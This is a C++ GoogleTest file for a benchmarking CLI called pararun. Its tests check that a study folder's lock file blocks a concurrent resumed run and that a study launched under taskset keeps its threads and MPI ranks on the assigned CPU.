TEST(CliStudy, OneRunOfAStudyFolderAtATime) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "s", results = dir + "/results.jsonl";
  const std::string args =
      "study --kernels matmul --backends seq --sizes 64 --reps 1 --max-reps 1 --out " + dir;
  ASSERT_EQ(run_cli(args).code, 0);
  const std::string before = slurp(results);
  const int fd = open((dir + "/lock").c_str(), O_RDWR);  // as a running study holds it
  ASSERT_GE(fd, 0);
  ASSERT_EQ(flock(fd, LOCK_EX | LOCK_NB), 0);
  const Result busy = run_cli(args + " --resume");
  close(fd);
  EXPECT_EQ(busy.code, 2) << busy.err;
  ASSERT_EQ(lines(busy.err).size(), 1u) << busy.err;
  EXPECT_NE(busy.err.find("another pararun study is running in '" + dir + "'"), std::string::npos)
      << busy.err;
  EXPECT_EQ(slurp(results), before);
  const Result free = run_cli(args + " --resume");
  EXPECT_EQ(free.code, 0) << free.err;
}

TEST(CliStudy, KeepsToTheCpusTasksetStartedItOnWithAutomaticCountsAndUnboundRanks) {
  // `taskset -c C pararun study`: its points ran on the node's first cores (mpirun's
  // --bind-to core places ranks by the node, not by mpirun's own affinity), and the default
  // counts were 1,2 whatever the machine.
  const std::vector<int> cpus = my_cpus();
  if (cpus.size() < 2) GTEST_SKIP() << "needs 2 CPUs";
  if (!has_taskset()) GTEST_SKIP() << "needs taskset";
  const int last = cpus.back();
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "s", cpu = std::to_string(last);
  const Result r = run_command("taskset -c " + cpu + " " + PARARUN_EXE +
                               " study --kernels reduction --backends seq,omp,mpi --sizes 2^12 "
                               "--reps 2 --max-reps 2 --out " +
                               dir);
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.err.find("pararun: note: the study runs on CPUs " + cpu + " of "), std::string::npos)
      << r.err;
  // Automatic counts on one CPU: one thread, one rank.
  const Json study = Json::parse(slurp(dir + "/study.json"));
  for (const auto& id : study["points"]) {
    const std::string p = id.get<std::string>();
    EXPECT_NE(p.find("/t1/r1"), std::string::npos) << p;
  }
  int parallel = 0;
  for (const auto& line : lines(slurp(dir + "/results.jsonl"))) {
    const Json j = Json::parse(line);
    ASSERT_EQ(j["status"], "ok") << line;
    parallel += j["backend"] != "seq";
    for (const auto& rank : j["meta"]["affinity"])
      for (const auto& t : rank["threads"]) EXPECT_EQ(t, cpu) << j["point"];
  }
  EXPECT_EQ(parallel, 2);  // omp t1 and mpi r1
}
